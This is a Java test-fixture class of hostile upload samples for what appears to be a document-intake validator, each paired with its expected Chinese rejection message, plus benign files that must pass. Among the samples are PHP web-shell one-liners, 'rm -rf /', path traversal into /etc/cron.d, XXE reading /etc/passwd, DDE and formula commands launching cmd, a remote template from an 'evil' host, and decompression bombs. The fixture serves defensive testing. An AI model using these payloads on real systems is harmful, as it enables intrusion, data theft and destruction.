package jianyi.files.content;

import static jianyi.files.content.Made.*;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Files nobody should get into a case: each with the words its refusal must say. */
public final class HostileFiles {

    private static final String TYPE = "不是可以上传的文件类型";
    private static final String DAMAGED = "已损坏";
    private static final String HIDING = "夹带";
    private static final String MACRO = "宏";
    private static final String INSIDE = "嵌入";
    private static final String LOCKED = "密码";
    private static final String BOMB = "过大";
    private static final String SCRIPT = "脚本";
    private static final String RUNS = "脚本或会启动程序";
    private static final String NAME = "文件名不符";

    private final List<Sample> all = new ArrayList<>();

    private HostileFiles() {}

    public static List<Sample> all() {
        var files = new HostileFiles();
        files.programs();
        files.otherKinds();
        files.names();
        files.pictures();
        files.pdfs();
        files.morePdfs();
        files.edges();
        files.ofds();
        files.archives();
        files.archiveContents();
        files.oldOffice();
        files.texts();
        return files.all;
    }

    private void add(String what, String name, byte[] content, String answer) {
        all.add(new Sample(what, name, content, answer));
    }

    private void programs() {
        add(
                "Windows program as photo",
                "照片.jpg",
                latin("MZ\u0090\0\3\0\0\0\4\0\0\0\u00ff\u00ff" + "\0".repeat(200)),
                TYPE);
        add("Linux program as PDF", "报告.pdf", latin("\u007fELF\2\1\1" + "\0".repeat(200)), TYPE);
        add("program by its name", "安装.exe", latin("MZ" + "\0".repeat(200)), ".exe");
        add("Java class", "图.png", latin("\u00ca\u00fe\u00ba\u00be\0\0\0\u0034" + "\0".repeat(100)), TYPE);
        add("web page as text", "说明.txt", bytes("<!DOCTYPE html><html><body onload=alert(1)>"), TYPE);
        add("web page as photo", "照片.jpg", bytes("<html><script>alert(1)</script></html>"), TYPE);
        add("web page by its name", "说明.html", bytes("<p>你好</p>"), ".html");
        add("SVG", "图.svg", bytes("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"), ".svg");
        add("SVG as PNG", "图.png", bytes("<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>"), TYPE);
        add(
                "SVG with XML head",
                "图.jpg",
                bytes("<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>"),
                TYPE);
        add("JavaScript", "a.js", bytes("alert(1)"), ".js");
        add("batch file", "清理.bat", bytes("del /q *"), ".bat");
        add("batch file as text", "清理.txt", bytes("@echo off\r\ndel /q *"), TYPE);
        add("batch file behind a blank line", "清理.txt", bytes("\r\n @echo off\r\ndel /q *"), SCRIPT);
        add("PowerShell", "a.ps1", bytes("Remove-Item *"), ".ps1");
        add("Visual Basic script", "a.vbs", bytes("MsgBox 1"), ".vbs");
        add("HTML application", "通知.hta", bytes("<hta:application>"), ".hta");
        add("PHP as text", "a.txt", bytes("<?php system($_GET[0]); ?>"), TYPE);
        add("JSP as text", "a.txt", bytes("<%@ page import='java.io.*' %>"), TYPE);
        add("shortcut", "通知.lnk", latin("L\0\0\0\1\24\2\0" + "\0".repeat(80)), ".lnk");
        add(
                "shortcut as Word",
                "通知.docx",
                latin("L\0\0\0\1\24\2\0\0\0\0\0\u00c0\0\0\0\0\0\0F" + "\0".repeat(80)),
                TYPE);
        add("screen saver that is a photo", "照片.jpg.scr", picture("jpg"), ".scr");
    }

    private void otherKinds() {
        add("archive", "资料.zip", zip(Map.of("a.txt", "x")), "压缩包");
        add("archive as Word", "资料.docx", zip(Map.of("a.txt", "x")), "压缩包");
        add("archive within an archive", "资料.docx", zip(Map.of("b.docx", "PK\3\4xx")), "压缩包");
        add("gzip", "资料.pdf", latin("\u001f\u008b\u0008\0\0\0\0\0\0\3" + "x".repeat(50)), TYPE);
        add("7z", "资料.docx", latin("7z\u00bc\u00af\u0027\u001c\0\4" + "x".repeat(50)), TYPE);
        add("rar", "资料.docx", latin("Rar!\u001a\7\1\0" + "x".repeat(50)), TYPE);
        add("bzip2", "资料.txt", latin("BZh91AY&SY" + "\0\1\2".repeat(50)), TYPE);
        add("GIF", "图.gif", latin("GIF89a\1\0\1\0\0\0\0;"), TYPE);
        add("GIF that is a script", "图.jpg", bytes("GIF89a/*<script>*/=1;alert(1)"), TYPE);
        add("bitmap", "图.bmp", picture("bmp"), TYPE);
        add("TIFF", "图.tif", latin("II*\0\u0008\0\0\0\0\0" + "\0".repeat(50)), TYPE);
        add("film", "视频.mp4", joined(box("ftyp", latin("isom\0\0\2\0isomiso2")), box("mdat", new byte[50])), TYPE);
        add("sound", "录音.mp3", latin("ID3\3\0\0\0\0\0\u0021" + "\0".repeat(60)), TYPE);
        add("RTF as Word", "报告.doc", bytes("{\\rtf1\\ansi{\\object\\objocx}}"), TYPE);
        add("mail", "邮件.txt", bytes("From: a@b.c\r\nTo: b@c.d\r\nSubject: x\r\nMIME-Version: 1.0\r\n\r\nx"), TYPE);
        add("PostScript", "图.pdf", bytes("%!PS-Adobe-3.0\n(x) show"), TYPE);
        add("Flash", "图.png", latin("CWS\u0009" + "\1\2\3\4".repeat(20)), TYPE);
        add("database", "资料.xlsx", latin("SQLite format 3\0" + "\0".repeat(100)), TYPE);
        add("nothing in it", "空.pdf", new byte[0], "空文件");
        add(
                "larger than 20 MB",
                "大.txt",
                "水".repeat(7_000_001).getBytes(java.nio.charset.StandardCharsets.UTF_8),
                "20 MB");
    }

    private void names() {
        add("two ends to a name", "报告.pdf.exe", pdf(), ".exe");
        add("writing turned round", "照片\u202egpj.exe", picture("jpg"), ".exe");
        add("a path before it", "../../../../etc/cron.d/任务.sh", bytes("* * * * * root id"), ".sh");
        add("PDF called photo", "照片.jpg", pdf(), NAME);
        add("text called Word", "报告.docx", bytes("这不是 Word 文件"), NAME);
        add("Excel called Word", "报告.docx", zip(sheet()), NAME);
        add("photo called Excel", "台账.xlsx", picture("png"), NAME);
    }

    private void pictures() {
        add("PNG of ten thousand million pixels", "图.png", png(100_000, 100_000, true), BOMB);
        add("PNG without width", "图.png", png(0, 10, true), DAMAGED);
        add("PNG without content", "图.png", png(10, 10, false), DAMAGED);
        add("half a PNG", "图.png", half(picture("png")), DAMAGED);
        add("PNG with a wrong sum", "图.png", changed(picture("png"), -20, 77), DAMAGED);
        add("PNG and archive", "图.png", joined(picture("png"), zip(Map.of("a.class", "x"))), HIDING);
        add("PNG and web page", "图.png", joined(picture("png"), bytes("<html><script>1</script>")), HIDING);
        add("PNG and program", "图.png", joined(picture("png"), latin("MZ" + "\0".repeat(100))), HIDING);
        var talking = joined(
                latin("\u0089PNG\r\n\u001a\n"), chunk("IHDR", new byte[] {0, 0, 0, 9, 0, 0, 0, 9, 8, 2, 0, 0, 0}));
        add(
                "PNG and PDF",
                "图.png",
                joined(
                        talking,
                        chunk("tEXt", latin("a\0%PDF-1.4 1 0 obj")),
                        chunk("IDAT", deflated(new byte[9])),
                        chunk("IEND", new byte[0])),
                HIDING);
        add("JPEG of a thousand million pixels", "图.jpg", jpeg(32_000, 32_000, "x"), BOMB);
        add("JPEG without extent", "图.jpg", jpeg(0, 0, "x"), DAMAGED);
        add("half a JPEG", "图.jpg", half(picture("jpg")), DAMAGED);
        add(
                "JPEG without a picture",
                "图.jpg",
                latin("\u00ff\u00d8\u00ff\u00da\0\u0008\1\1\0\0?\0AB\u00ff\u00d9"),
                DAMAGED);
        add("JPEG with a script", "图.jpg", jpeg(10, 10, "<ScRiPt>alert(1)</script>"), HIDING);
        add("JPEG with PHP", "图.jpg", jpeg(10, 10, "<?php eval($_POST[1]); ?>"), HIDING);
        add("JPEG and archive", "图.jpg", joined(picture("jpg"), zip(Map.of("a", "x"))), HIDING);
        add("JPEG with torn marks", "图.jpg", joined(latin("\u00ff\u00d8\u00ff"), new byte[500]), DAMAGED);
        add("WebP of a thousand million pixels", "图.webp", webp(16_000, 16_000), BOMB);
        add("half a WebP", "图.webp", changed(webp(10, 10), 4, 200), DAMAGED);
        add("WebP and more", "图.webp", joined(webp(10, 10), bytes("0123456789")), HIDING);
        add("HEIC of a thousand million pixels", "图.heic", heic("heic", 50_000, 50_000), BOMB);
        add("HEIC without extent", "图.heic", box("ftyp", latin("heic\0\0\0\0mif1heic")), DAMAGED);
        add("HEIC with boxes too large", "图.heic", changed(heic("heic", 10, 10), 26, 255), HIDING);
        add("HEIC nested twenty thousand deep", "图.heic", nested(), DAMAGED);
        add("AVIF", "图.heic", heic("avif", 10, 10), TYPE);
    }

    private void pdfs() {
        add("PDF with JavaScript", "报告.pdf", pdf("<< /S /JavaScript /JS (app.alert(1)) >>"), RUNS);
        add("PDF with masked JavaScript", "报告.pdf", pdf("<< /S /J#61va#53cript /J#53 (x) >>"), RUNS);
        add(
                "PDF with packed JavaScript",
                "报告.pdf",
                pdf(packed(deflated(latin("9 0 << /S /JavaScript /JS (x) >>")), "/Filter /FlateDecode")),
                RUNS);
        add(
                "PDF with masked packed JavaScript",
                "报告.pdf",
                pdf(packed(deflated(latin("9 0 << /#4aS (x) >>")), "/Filter /FlateDecode")),
                RUNS);
        add("PDF with bare packed JavaScript", "报告.pdf", pdf(packed(latin("9 0 << /JS (x) >>"), "")), RUNS);
        add("PDF that starts a program", "报告.pdf", pdf("<< /S /Launch /F (cmd.exe) >>"), RUNS);
        add("PDF that sends a form", "报告.pdf", pdf("<< /S /SubmitForm /F (http://x) >>"), RUNS);
        add("PDF with an XFA form", "报告.pdf", pdf("<< /AcroForm << /XFA [] >> >>"), RUNS);
        add("PDF with a film", "报告.pdf", pdf("<< /Subtype /RichMedia >>"), RUNS);
        add("PDF that opens what it carries", "报告.pdf", pdf("<< /S /GoToE >>"), RUNS);
        add("PDF with a file in it", "报告.pdf", pdf("<< /Type /Filespec /EF << /F 9 0 R >> >>"), "附带");
        add(
                "PDF with an embedded stream",
                "报告.pdf",
                pdf("<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream"),
                "附带");
        add("PDF with a password", "报告.pdf", pdf("<< /Encrypt 9 0 R >>"), LOCKED);
    }

    private void morePdfs() {
        add("PDF and archive", "报告.pdf", joined(pdf(), zip(Map.of("a", "x"))), HIDING);
        add("PDF and web page", "报告.pdf", joined(pdf(), bytes("<script>alert(1)</script>")), HIDING);
        add("half a PDF", "报告.pdf", half(pdf()), DAMAGED);
        add("PDF without objects", "报告.pdf", bytes("%PDF-1.7\n%%EOF\n"), DAMAGED);
        add(
                "PDF with an object within a stream",
                "报告.pdf",
                pdf("<< /Length 50 >>\nstream\n\n8 0 obj\n<</JS(x)>>\nendobj\nendstream"),
                HIDING);
        add("PDF with an object within a text", "报告.pdf", pdf("(\n8 0 obj\n<</JS(x)>>\nendobj\n)"), HIDING);
        add("PDF with a stream that never was", "报告.pdf", pdf("<< /A (>>stream\n) /S /JavaScript >>"), RUNS);
        add("PDF with a stream without end", "报告.pdf", pdf("<< /Length 9 >>\nstream\nxxxx"), DAMAGED);
        add(
                "PDF that swells",
                "报告.pdf",
                pdf(packed(deflated(new byte[120 * 1024 * 1024]), "/Filter /FlateDecode")),
                BOMB);
        add("PDF packed in a way nobody reads", "报告.pdf", pdf(packed(latin("x"), "/Filter /LZWDecode")), "压缩方式");
        add("PDF packed twice", "报告.pdf", pdf(packed(latin("x"), "/Filter [/AHx /FlateDecode]")), "压缩方式");
        add("PDF with torn packing", "报告.pdf", pdf(packed(latin("not packed"), "/Filter /FlateDecode")), DAMAGED);
        add("PDF behind something else", "报告.pdf", joined(bytes("说明说明说明\n"), pdf()), HIDING);
    }

    private void archives() {
        add("half a Word file", "报告.docx", half(zip(word())), DAMAGED);
        add("Word file with a note behind it", "报告.docx", zip(word(), "<script>alert(1)</script>"), HIDING);
        add("Word file that swells", "报告.docx", zip(with(word(), "word/media/a.bin", "\0".repeat(5_000_000))), BOMB);
        add(
                "Word text that swells",
                "报告.docx",
                zip(with(word(), "word/footer1.xml", "<a>" + " ".repeat(5_000_000) + "</a>")),
                BOMB);
        var many = word();
        for (int i = 0; i < 2_100; i++) {
            many.put("word/media/" + i + ".txt", "x");
        }
        add("Word file of two thousand parts", "报告.docx", zip(many), BOMB);
        add("Word file with a way out", "报告.docx", zip(with(word(), "../../evil.xml", "<a/>")), HIDING);
        add("Word file with a way from the root", "报告.docx", zip(with(word(), "/etc/passwd", "x")), HIDING);
        add("Word file with a Windows way", "报告.docx", zip(with(word(), "word\\a.xml", "<a/>")), HIDING);
        add("Word file with one part twice", "报告.docx", zip(with(word(), "word/DOCUMENT.xml", "<a/>")), HIDING);
        add(
                "Word file with a locked part",
                "报告.docx",
                replaced(zip(word()), "PK\1\2\24\0\24\0\u0008\u0008", "PK\1\2\24\0\24\0\u0009\u0008"),
                LOCKED);
        add(
                "PowerPoint",
                "报告.docx",
                zip(Map.of(
                        "[Content_Types].xml",
                        types(
                                "/ppt/presentation.xml",
                                "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"))),
                "不是 Word");
        add("OpenDocument", "报告.docx", zip(Map.of("mimetype", "application/vnd.oasis.opendocument.text")), "压缩包");
        var missing = word();
        missing.remove("word/document.xml");
        add("Word file without its text", "报告.docx", zip(missing), DAMAGED);
        add(
                "Word and Excel in one",
                "报告.docx",
                zip(with(
                        word(),
                        "[Content_Types].xml",
                        word().get("[Content_Types].xml")
                                .replace(
                                        "</Types>",
                                        sheet().get("[Content_Types].xml")
                                                .replaceAll(".*(<Override.*>)</Types>", "$1</Types>")))),
                DAMAGED);
    }

    private void archiveContents() {
        add("Word file with macros", "报告.docx", zip(with(word(), "word/vbaProject.bin", "x")), MACRO);
        add("Excel file with macros", "台账.xlsx", zip(with(sheet(), "xl/vbaProject.bin", "x")), MACRO);
        add(
                "Word file that admits to macros",
                "报告.docx",
                zip(with(
                        word(),
                        "[Content_Types].xml",
                        types("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"))),
                MACRO);
        add("Excel 4 macro sheet", "台账.xlsx", zip(with(sheet(), "xl/macrosheets/sheet1.xml", "<a/>")), MACRO);
        add("Word file named as one with macros", "报告.docm", zip(word()), ".docm");
        add("Word file with an object", "报告.docx", zip(with(word(), "word/embeddings/oleObject1.bin", "x")), INSIDE);
        add("Word file with an Excel file", "报告.docx", zip(with(word(), "word/embeddings/a.xlsx", "PK\3\4")), INSIDE);
        add("Word file with ActiveX", "报告.docx", zip(with(word(), "word/activeX/activeX1.xml", "<a/>")), INSIDE);
        add(
                "Word file with a program for a picture",
                "报告.docx",
                zip(with(word(), "word/media/image1.png", "MZ\0\0")),
                INSIDE);
        add(
                "Word file with a document type",
                "报告.docx",
                zip(with(
                        word(),
                        "word/document.xml",
                        "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>")),
                "文档类型");
        add(
                "Word file of a million laughs",
                "报告.docx",
                zip(with(
                        word(),
                        "[Content_Types].xml",
                        "<!DOCTYPE a [<!ENTITY b 'ha'><!ENTITY c '&b;&b;&b;&b;&b;&b;'>]><Types>&c;&c;</Types>")),
                "文档类型");
        add(
                "Word file with a template from outside",
                "报告.docx",
                zip(with(word(), "word/_rels/settings.xml.rels", link("attachedTemplate", "http://evil/a.dotm"))),
                "外部");
        add(
                "Word file with a picture from outside",
                "报告.docx",
                zip(with(word(), "word/_rels/document.xml.rels", link("image", "\\\\evil\\a.png"))),
                "外部");
        add(
                "Word file with a link that runs",
                "报告.docx",
                zip(with(word(), "word/_rels/document.xml.rels", link("hyperlink", "JavaScript:alert(1)"))),
                "外部");
        add(
                "Word field that starts a program",
                "报告.docx",
                zip(with(word(), "word/document.xml", document("<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"))),
                "启动");
        add(
                "Word field in pieces",
                "报告.docx",
                zip(
                        with(
                                word(),
                                "word/document.xml",
                                document(
                                        "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E cmd</w:instrText></w:r>"))),
                "启动");
        add(
                "Excel formula that starts a program",
                "台账.xlsx",
                zip(with(sheet(), "xl/worksheets/sheet1.xml", "<s><f>cmd|' /C calc'!A0</f></s>")),
                "启动");
        add(
                "Excel link to a program",
                "台账.xlsx",
                zip(with(sheet(), "xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink/></externalLink>")),
                INSIDE);
        add(
                "Word file with torn XML",
                "报告.docx",
                zip(with(word(), "word/document.xml", "<w:document><a></w:document>")),
                DAMAGED);
        add(
                "Word file without bottom",
                "报告.docx",
                zip(with(word(), "word/styles.xml", "<a>".repeat(1_200) + "</a>".repeat(1_200))),
                BOMB);
    }

    private void oldOffice() {
        add(
                "old Word file with macros",
                "报告.doc",
                ole(root -> {
                    stream(root, "WordDocument", wordStream(0));
                    stream(root.createDirectory("Macros").createDirectory("VBA"), "dir", new byte[10]);
                }),
                MACRO);
        add(
                "old Excel file with macros",
                "台账.xls",
                ole(root -> {
                    stream(root, "Workbook", records(0x0809, new byte[16], 0x000A, new byte[0]));
                    stream(root.createDirectory("_VBA_PROJECT_CUR"), "PROJECT", new byte[10]);
                }),
                MACRO);
        add(
                "WPS file with macros",
                "报告.wps",
                ole(root -> {
                    stream(root, "WordDocument", wordStream(0));
                    root.createDirectory("MACROS");
                }),
                MACRO);
        add(
                "Excel 4 macro sheet, old",
                "台账.xls",
                ole(root -> stream(
                        root,
                        "Workbook",
                        records(
                                0x0809,
                                new byte[16],
                                0x0085,
                                new byte[] {0, 0, 0, 0, 0, 1, 1, 0, 65},
                                0x000A,
                                new byte[0]))),
                MACRO);
        add(
                "old Word file with a password",
                "报告.doc",
                ole(root -> stream(root, "WordDocument", wordStream(0x0100))),
                LOCKED);
        add(
                "old Excel file with a password",
                "台账.xls",
                ole(root -> stream(
                        root, "Workbook", records(0x0809, new byte[16], 0x002F, new byte[6], 0x000A, new byte[0]))),
                LOCKED);
        add(
                "new Word file with a password",
                "报告.docx",
                ole(root -> {
                    stream(root, "EncryptionInfo", new byte[100]);
                    stream(root, "EncryptedPackage", new byte[5000]);
                }),
                LOCKED);
        add(
                "old Word file with an object",
                "报告.doc",
                ole(root -> {
                    stream(root, "WordDocument", wordStream(0));
                    stream(root.createDirectory("ObjectPool").createDirectory("_1"), "\1Ole10Native", new byte[10]);
                }),
                INSIDE);
        add(
                "old Excel file with an object",
                "台账.xls",
                ole(root -> {
                    stream(root, "Workbook", records(0x0809, new byte[16], 0x000A, new byte[0]));
                    stream(root.createDirectory("MBD0001A2B3"), "CONTENTS", new byte[10]);
                }),
                INSIDE);
        add("PowerPoint, old", "报告.doc", ole(root -> stream(root, "PowerPoint Document", new byte[5000])), "不是 Word");
        add("installer", "报告.doc", ole(root -> stream(root, "\u4840\u3f3f\u4577\u446c", new byte[5000])), "不是 Word");
        add("Outlook mail", "报告.doc", ole(root -> stream(root, "__properties_version1.0", new byte[5000])), "不是 Word");
        add(
                "old Word and Excel in one",
                "报告.doc",
                ole(root -> {
                    stream(root, "WordDocument", wordStream(0));
                    stream(root, "Workbook", records(0x0809, new byte[16], 0x000A, new byte[0]));
                }),
                "不是 Word");
        add(
                "old Word file of other content",
                "报告.doc",
                ole(root -> stream(root, "WordDocument", new byte[5000])),
                DAMAGED);
        add("half an old Excel file", "台账.xls", half(workbook()), DAMAGED);
        add(
                "old Word file's head alone",
                "报告.doc",
                latin("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1" + "\0".repeat(100)),
                DAMAGED);
        add("old Excel file and archive", "台账.xls", joined(workbook(), zip(Map.of("a", "x"))), HIDING);
    }

    private void texts() {
        add("text with NUL", "说明.txt", bytes("水渠\0渗漏"), "字符");
        add("text with controls", "说明.txt", bytes("水渠\u0007\u001b[31m渗漏"), "字符");
        add("text with a script", "说明.txt", bytes("第一行\n第二行 <script src=//x></script>"), HIDING);
        add("text nobody can read", "说明.txt", latin("\u00ff\u0081\u00ff\u0080".repeat(30)), "文字编码");
        add("shell script as text", "说明.txt", bytes("#!/bin/sh\nrm -rf /\n"), TYPE);
        add("text of 6 MB", "说明.txt", bytes("水渠渗漏\n".repeat(500_000)), "5 MB");
    }

    /** What must be taken, so that the refusals mean something. */
    public static List<Sample> good() {
        var good = new LinkedHashMap<String, byte[]>();
        good.put("现场照片（李家塬村）.jpg", joined(picture("jpg"), new byte[300]));
        good.put("示意图.png", picture("png"));
        good.put("手机图.webp", webp(40, 30));
        good.put("手机图.heic", heic("heic", 4032, 3024));
        good.put("扫描件.pdf", pdf("<< /Title (about /JS and JavaScript) >>"));
        good.put("压缩对象.pdf", pdf(packed(deflated(latin("9 0 << /Type /Font >>")), "/Filter /FlateDecode")));
        good.put("报告.docx", zip(with(word(), "word/_rels/document.xml.rels", link("hyperlink", "https://example.cn"))));
        good.put("台账.xlsx", zip(sheet()));
        good.put("台账.xls", workbook());
        good.put("台账.et", joined(workbook()));
        good.put("报告.doc", ole(root -> stream(root, "WordDocument", wordStream(0))));
        good.put("报告.wps", ole(root -> {
            stream(root, "WordDocument", wordStream(0));
            root.createDirectory("ObjectPool");
        }));
        good.put("说明.txt", bytes("水渠渗漏，影响二百亩农田。\r\n"));
        good.put("国标.txt", "水渠渗漏，影响二百亩农田。".getBytes(java.nio.charset.Charset.forName("GB18030")));
        good.putAll(carried());
        good.put("夜政函〔2026〕9号.ofd", zip(ofd()));
        good.put("盖章的批复.ofd", zip(sealed()));
        good.put("微信图片_20261128.png", joined(picture("png"), new byte[300]));
        return good.entrySet().stream()
                .map(one -> new Sample(one.getKey(), one.getKey(), one.getValue(), ""))
                .toList();
    }

    /** PDFs as mail gateways, downloads and scanners leave them. */
    private static Map<String, byte[]> carried() {
        var carried = new LinkedHashMap<String, byte[]>();
        carried.put("字节序标记.pdf", joined(latin("\u00ef\u00bb\u00bf"), pdf()));
        carried.put("空行在前.pdf", joined(bytes("\r\n\r\n"), pdf()));
        carried.put(
                "邮件头在前.pdf",
                joined(
                        bytes("------=_Part_7\r\nContent-Type: application/pdf;\r\n\tname=\"a (1).pdf\"\r\n"
                                + "Message-ID: <a@b.cn>\r\n\r\n"),
                        pdf()));
        carried.put(
                "下载头在前.pdf", joined(bytes("HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\n\r\n1f4\r\n"), pdf()));
        carried.put(
                "打印作业.pdf",
                joined(
                        bytes("\u001b%-12345X@PJL JOB\r\n@PJL ENTER LANGUAGE=PDF\r\n"),
                        pdf(),
                        bytes("\u001b%-12345X@PJL EOJ\r\n\u001b%-12345X")));
        carried.put("邮件尾在后.pdf", joined(pdf(), bytes("--=_Part_1--\r\n")));
        carried.put("网关说明在后.pdf", joined(pdf(), bytes("\r\n\r\n本邮件经安全网关检测，未发现病毒。\r\n")));
        carried.put("扫描仪补零.pdf", joined(pdf(), new byte[512]));
        carried.put("扫描仪补了很多零.pdf", joined(pdf(), new byte[9_000]));
        carried.put("旧系统的结束符.pdf", joined(pdf(), latin("\u001a")));
        carried.put(
                "盖章.pdf",
                pdf("<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 1 2 3]"
                        + " /Contents <0000> >>"));
        return carried;
    }

    private static Map<String, String> ofd() {
        var parts = new LinkedHashMap<String, String>();
        parts.put(
                "OFD.xml",
                "<?xml version='1.0' encoding='UTF-8'?><ofd:OFD xmlns:ofd='http://www.ofdspec.org/2016' Version='1.0'"
                        + " DocType='OFD'><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>");
        parts.put(
                "Doc_0/Document.xml",
                "<ofd:Document xmlns:ofd='http://www.ofdspec.org/2016'><ofd:Pages/></ofd:Document>");
        return parts;
    }

    private static Map<String, String> sealed() {
        var parts = ofd();
        parts.put("OFD.xml", parts.get("OFD.xml").replace(">Doc_0/D", ">/Doc_0/D"));
        parts.put("Doc_0/Res/image_1.jpg", "\u00ff\u00d8\u00ff");
        parts.put("Doc_0/Res/仿宋.ttf", "\0\1\0\0");
        parts.put("Doc_0/Signs/Sign_0/SignedValue.dat", "0\u0082\1\1");
        parts.put("Doc_0/Signs/Sign_0/Seal.esl", "0\u0082\1\1");
        return parts;
    }

    private void ofds() {
        add("half an OFD", "批复.ofd", half(zip(ofd())), DAMAGED);
        add("OFD without its document", "批复.ofd", zip(Map.of("OFD.xml", ofd().get("OFD.xml"))), DAMAGED);
        add("OFD that says nothing", "批复.ofd", zip(with(ofd(), "OFD.xml", "<a/>")), DAMAGED);
        add("OFD called PDF", "批复.pdf", zip(ofd()), NAME);
        add("PDF called OFD", "批复.ofd", pdf(), NAME);
        add("archive called OFD", "批复.ofd", zip(Map.of("a.txt", "x")), "压缩包");
        add("OFD with a Word file", "批复.ofd", zip(with(ofd(), "Doc_0/Attachs/a.docx", "PK\3\4")), "附带");
        add("OFD with a program", "批复.ofd", zip(with(ofd(), "Doc_0/Attachs/a.exe", "MZ")), "附带");
        add("OFD with a program for a picture", "批复.ofd", zip(with(ofd(), "Doc_0/Res/a.jpg", "MZ\0\0")), INSIDE);
        add("OFD with a way out", "批复.ofd", zip(with(ofd(), "../evil.xml", "<a/>")), HIDING);
        add("OFD that swells", "批复.ofd", zip(with(ofd(), "Doc_0/Res/a.dat", "\0".repeat(5_000_000))), BOMB);
        add("OFD with a document type", "批复.ofd", zip(with(ofd(), "OFD.xml", "<!DOCTYPE a []><a/>")), "文档类型");
    }

    private void edges() {
        add("PDF behind a shell script", "报告.pdf", joined(bytes("#!/bin/sh\nid\n"), pdf()), TYPE);
        add("PDF behind a batch file", "报告.pdf", joined(bytes("@echo off\r\nid\r\n"), pdf()), TYPE);
        add("PDF behind a web page", "报告.pdf", joined(bytes("X: <script>alert(1)</script>\r\n"), pdf()), HIDING);
        add("PDF behind a program", "报告.pdf", joined(latin("MZ" + "\0".repeat(90)), pdf()), TYPE);
        add("PDF before a program", "报告.pdf", joined(pdf(), latin("MZ\1\2" + "\0".repeat(90))), HIDING);
        add("PDF before objects", "报告.pdf", joined(pdf(), bytes("9 0 obj <</JS(x)>> endobj")), HIDING);
        add("PDF that begins too late", "报告.pdf", joined(bytes("X: y\r\n".repeat(200)), pdf()), NAME);
    }

    private static byte[] nested() {
        var deep = java.nio.ByteBuffer.allocate(20_000 * 8);
        for (int depth = 0; depth < 20_000; depth++) {
            deep.putInt((20_000 - depth) * 8).put(latin("ipco"));
        }
        return joined(box("ftyp", latin("heic\0\0\0\0mif1heic")), deep.array());
    }
}
